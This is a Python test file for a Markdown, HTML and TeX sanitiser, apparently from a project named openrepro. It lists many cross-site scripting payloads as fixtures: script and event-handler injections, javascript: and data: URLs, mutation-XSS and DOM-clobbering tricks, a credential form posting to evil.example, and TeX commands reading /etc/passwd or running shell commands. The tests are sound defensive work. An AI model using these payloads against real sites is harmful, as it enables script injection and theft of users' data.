"""Attacks in Markdown come out as text, or as nothing: only listed tags, attributes and schemes remain."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openrepro.rendering.sanitise import clean
from tests.rendering.reading import read, safe_html

RAW = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<div style=position:fixed;inset:0>covered</div>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<form><form><input formaction=javascript:alert(1) type=submit></form>",
    "<button popovertarget=x onbeforetoggle=alert(1)>x</button>",
    "<a id=location name=cookie>x</a>",
    "<form id=document><input name=body></form>",
    "<img name=getElementById>",
    "<p class='chip tone-verified'>verified</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x></slot><x-y is=z>",
    "</section></main><h1>Somebody else's page</h1>",
    "<mark id=q1 class=quote>not a quote</mark>",
    "<a href=javascript:alert(1)>x</a>",
    "<\x00script>alert(1)</script>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ud83d<script>\ude00",
    "`<script>` ``<img src=x onerror=alert(1)>``",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "&#0000106&#0000097&#0000118;ascript:alert(1)",
    "javascript%3Aalert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "view-source:https://example.org",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/console",
    "../../console",
    "?next=//evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "https://good.example@evil.example/",
    "https://good.example\\@evil.example/",
    "https://evil.example%2f.good.example/",
    "https://[::1]/",
    "http://x'onmouseover='alert(1)",
    "mailto:x@y.example?body=%0d%0aBcc:z",
    "#q1",
)
FORMULAS = (
    r"\text{<script>alert(1)</script>}",
    r"\href{javascript:alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    r"\mathrm{<img src=x onerror=alert(1)>}",
    r"</math><script>alert(1)</script>",
    r"\text{</mtext></math><img src=x onerror=alert(1)>}",
    r"\text{&lt;script&gt;}",
    r"\class{chip}{x} \cssId{q1}{y} \style{color:red}{z}",
    r"\color{red;background:url(//evil.example)}{x}",
    r"\textcolor{\"onclick=alert(1)}{x}",
    r"\begin{array}{c\" onclick=alert(1)}x\end{array}",
    r"\hspace{1em\" onmouseover=\"alert(1)}",
    r"\includegraphics{//evil.example/x.png}",
    r"\input{/etc/passwd} \write18{id} \def\x{\x\x}\x",
    r"\bbox[border:1px]{x} \unicode{x202e} \enclose{circle}{x}",
)


@pytest.mark.parametrize("text", RAW)
@pytest.mark.parametrize("frame", ["{}", "a {} b", "> {}", "- {}", "| a |\n|---|\n| {} |", "# {}"])
def test_raw_html_is_text(text: str, frame: str) -> None:
    read(safe_html(frame.format(text)))


@pytest.mark.parametrize("text", RAW)
def test_raw_html_does_not_survive_the_list_either(text: str) -> None:
    read(clean(text.encode("utf-8", "replace").decode()))


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize(
    "frame", ["[x]({})", "[x](<{}>)", "<{}>", "[x]\n\n[x]: {}", "[x]\n\n[x]: <{}>", '[x]({} "t")', "![x]({})"]
)
def test_an_address_that_is_no_plain_link_is_not_linked(address: str, frame: str) -> None:
    html = safe_html(frame.format(address))
    assert "<a" not in html
    read(html)


@pytest.mark.parametrize("tex", FORMULAS)
@pytest.mark.parametrize("frame", ["${}$", "$${}$$", "a $${}$$ b"])
def test_hostile_tex_is_only_mathematics(tex: str, frame: str) -> None:
    read(safe_html(frame.format(tex)))


def test_what_looks_like_a_tag_in_tex_can_still_be_read() -> None:
    assert "a<b" in read(safe_html(r"$\text{a<b}$"))
    assert "<math" in safe_html(r"$x^2 < 1$")


@pytest.mark.parametrize(
    "attribute", ["id=x", "name=x", "class=x", "style=color:red", "onclick=alert(1)", "data-page=3", "srcset=x"]
)
def test_no_attribute_of_strangers_survives(attribute: str) -> None:
    assert clean(f"<p {attribute}>x</p>").replace(' class=""', "") == "<p>x</p>"


_SIGNS = ("[", "](", ")", "![", "`", "```\n", "$", "$$", "*", "**", "_", "~~", "> ", "- ", "1. ", "\n", "\n\n", "    ")
_ODD = ("|", "|-|-|\n", "# ", "\r", "\r\n", "\x00", "\u202e", "\u200d", "\ufdd0\ufde0\ufde0\ufde0\ufde0", "\ud800")
_MORE = ("\\", "&", "&amp;", "<", ">", '"', "<https://a.example>", "[a]: /b\n", "word", "\u2028", "\ufeff")
_PIECES = st.sampled_from([*RAW[:20], *ADDRESSES[:8], *_SIGNS, *_ODD, *_MORE])


@given(st.lists(_PIECES | st.text(max_size=8), max_size=40).map("".join))
def test_any_text_becomes_balanced_html_of_listed_tags(text: str) -> None:
    read(safe_html(text))
